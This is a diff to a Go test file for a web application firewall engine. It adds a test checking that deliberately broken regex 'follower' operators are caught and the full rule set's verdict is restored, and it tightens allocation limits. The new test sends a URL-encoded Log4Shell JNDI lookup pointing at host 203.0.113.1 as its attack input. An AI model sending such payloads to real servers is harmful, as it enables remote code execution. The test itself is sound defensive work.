@@ -284,6 +284,7 @@ func TestLiveProof(t *testing.T) {
 	if verdict, report := exchange(t, engine, attack, answer{200, header, ""}); verdict == rules.Passed || report.Clearance != JudgedRequest {
 		t.Fatalf("an attack: %+v %+v", verdict, report)
 	}
+	await(true)
 	for i := range engine.clearance.checks {
 		engine.clearance.checks[i].phase = 9 // nothing is checked any more
 	}
@@ -292,6 +293,38 @@ func TestLiveProof(t *testing.T) {
 	}
 	await(false)
 	if verdict, report := exchange(t, engine, attack, answer{200, header, ""}); verdict == rules.Passed || report.Clearance != Uncleared {
+		t.Errorf("after the live proof failed: %+v %+v: want the full rule set's verdict", verdict, report)
+	}
+}
+
+// TestLiveProofOfFollowers: so are exchanges that were judged; a rule set whose
+// expressions are followed wrongly ends at the first of them.
+func TestLiveProofOfFollowers(t *testing.T) {
+	proofs := make(chan Proof, 1)
+	engine, err := New(Config{Paranoia: 1, Threshold: 5, RequestBody: 1 << 10, Sample: 1, Proved: func(p Proof) { proofs <- p }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	list, err := compiledRules(engine.judges)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range list { // nothing matches any more, except to those that ask first
+		for i := range r.links {
+			if f, ok := r.links[i].operator.(*follower); ok && !r.links[i].negated {
+				f.dfa = func() *dfa { return newDFA(`\b\B`, false, newRoom()) }
+			}
+		}
+	}
+	attack := browser("GET", "/p?a=%24%7Bjndi:ldap://203.0.113.1/a%7D", 1, "", "")
+	verdict, report := exchange(t, engine, attack, answer{})
+	if report.Clearance != JudgedRequest || verdict != rules.Passed {
+		t.Fatalf("the followers are not broken: %+v %+v", verdict, report)
+	}
+	if p := <-proofs; p.Err != nil || p.Agreed || len(p.Rules) == 0 {
+		t.Fatalf("%+v, want it refuted by name", p)
+	}
+	if verdict, report := exchange(t, engine, attack, answer{}); verdict == rules.Passed || report.Clearance != Uncleared {
 		t.Errorf("after the live proof failed: %+v %+v: want the full rule set's verdict", verdict, report)
 	}
 }
@@ -334,7 +367,7 @@ func TestAllocations(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for name, most := range map[string]float64{"product-get": 430, "order-get": 410, "form-post": 690, "json-post": 640} {
+	for name, most := range map[string]float64{"product-get": 225, "order-get": 205, "form-post": 450, "json-post": 380} {
 		n := 0
 		got := testing.AllocsPerRun(200, func() {
 			n++
